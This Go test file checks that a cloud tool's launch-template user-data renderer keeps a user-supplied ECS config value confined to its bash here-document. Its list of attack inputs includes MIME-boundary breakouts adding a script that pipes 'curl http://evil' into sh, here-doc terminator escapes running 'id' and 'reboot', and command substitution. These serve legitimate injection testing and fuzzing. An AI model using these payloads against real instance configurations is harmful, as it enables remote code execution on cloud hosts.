package forge

import (
	"encoding/base64"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/stretchr/testify/require"
	"mvdan.cc/sh/v3/syntax"

	"github.com/ceforge/ceforge/internal/cloudinit"
	"github.com/ceforge/ceforge/internal/computeenv"
)

// ecsConfigAttacks are ecsConfig values that try to leave their place in the
// launch template's user data: a second MIME part (bare CR, CRLF, LF line
// endings around the boundary ceforge used to use) or the end of the
// here-document that appends them to ecs.config.
var ecsConfigAttacks = []string{
	"ECS_A=1\r--==CEFORGE==\rContent-Type: text/x-shellscript\r\r#!/bin/bash\rcurl -s http://evil | sh\r",
	"ECS_A=1\r\n--==CEFORGE==\r\nContent-Type: text/x-shellscript\r\n\r\n#!/bin/bash\r\nid\r\n",
	"ECS_A=1\n--==CEFORGE==\nContent-Type: text/x-shellscript\n\n#!/bin/bash\nid\n--==CEFORGE==--\n",
	"ECS_A=1\nCEFORGE_ECS_EOF\nid\n",
	"ECS_A=1\rCEFORGE_ECS_EOF\rreboot\r",
	"ECS_A=$(reboot)`id`\n",
}

// userDataScript renders d's user data, parses it as cloud-init would and
// returns its one shell-script part (failing on anything else).
func userDataScript(t testing.TB, d Design) string {
	t.Helper()
	raw, err := base64.StdEncoding.DecodeString(d.UserData("", "fs-0123456789abcdef0.fsx.eu-west-1.amazonaws.com", "abcd1234"))
	require.NoError(t, err)
	parts, err := cloudinit.Parse(raw)
	require.NoError(t, err)
	require.Len(t, parts, 1, "exactly one user-data part: %q", raw)
	require.Equal(t, cloudinit.ShellScript, parts[0].Type)
	return parts[0].Body
}

// scriptShape returns the command names of the script's top-level
// statements and the bodies of its here-documents.
func scriptShape(t testing.TB, script string) (cmds, heredocs []string) {
	t.Helper()
	f, err := syntax.NewParser(syntax.Variant(syntax.LangBash)).Parse(strings.NewReader(script), "user-data")
	require.NoError(t, err, "user data must parse as bash")
	for _, st := range f.Stmts {
		name := "?"
		if c, ok := st.Cmd.(*syntax.CallExpr); ok && len(c.Args) > 0 {
			name = c.Args[0].Lit()
		}
		cmds = append(cmds, name)
		for _, r := range st.Redirs {
			if r.Hdoc != nil {
				heredocs = append(heredocs, r.Hdoc.Lit())
			}
		}
	}
	return cmds, heredocs
}

func designWithEcsConfig(cfg string) Design {
	return NewDesign("ceforge-", ce(func(_ *computeenv.BatchOptions, f *computeenv.ForgeOptions) {
		f.EcsConfig, f.FsxName, f.FsxMount = cfg, "fs-0123456789abcdef0.fsx.eu-west-1.amazonaws.com", "/mnt/fsx"
	}))
}

// checkEcsConfigContained: the user text is one here-document, verbatim
// (as the parser reads its lines), and the script around it is the same
// as for a harmless value.
func checkEcsConfigContained(t testing.TB, cfg string) {
	t.Helper()
	wantCmds, _ := scriptShape(t, userDataScript(t, designWithEcsConfig("ECS_A=1")))
	cmds, heredocs := scriptShape(t, userDataScript(t, designWithEcsConfig(cfg)))
	require.Equal(t, wantCmds, cmds, "the ecsConfig text added or removed commands")
	require.Len(t, heredocs, 1)
	want := strings.ReplaceAll(strings.ReplaceAll(strings.TrimRight(cfg, "\n")+"\n", "\r\n", "\n"), "\r", "\n")
	require.Equal(t, want, heredocs[0])
}

func TestUserDataKeepsHostileEcsConfigInItsHeredoc(t *testing.T) {
	for _, cfg := range ecsConfigAttacks {
		checkEcsConfigContained(t, cfg)
	}
}

// FuzzForgeUserData renders launch-template user data from arbitrary
// ecsConfig text (validation refuses most of it; the renderer must not rely
// on that) and parses it as cloud-init would: exactly one shell-script part,
// the text inside its here-document and nowhere else.
func FuzzForgeUserData(f *testing.F) {
	for _, s := range ecsConfigAttacks {
		f.Add(s, true, false)
	}
	f.Add("ECS_ENABLE_GPU_SUPPORT=true\n# comment\n", false, true)
	f.Fuzz(func(t *testing.T, cfg string, ebsAutoScale, fastStorage bool) {
		if strings.ContainsRune(cfg, 0) || !utf8.ValidString(cfg) || strings.TrimRight(cfg, "\n") == "" {
			t.Skip("NUL and invalid UTF-8 are refused by validation (and unreadable by the shell parser); empty config has no here-document")
		}
		d := designWithEcsConfig(cfg)
		d.EbsAutoScale, d.EbsBlockSize, d.FastStorage = ebsAutoScale, 50, fastStorage
		base := designWithEcsConfig("ECS_A=1")
		base.EbsAutoScale, base.EbsBlockSize, base.FastStorage = ebsAutoScale, 50, fastStorage
		wantCmds, _ := scriptShape(t, userDataScript(t, base))
		cmds, heredocs := scriptShape(t, userDataScript(t, d))
		require.Equal(t, wantCmds, cmds)
		require.Len(t, heredocs, 1)
		require.Equal(t, strings.ReplaceAll(strings.ReplaceAll(strings.TrimRight(cfg, "\n")+"\n", "\r\n", "\n"), "\r", "\n"), heredocs[0])
	})
}
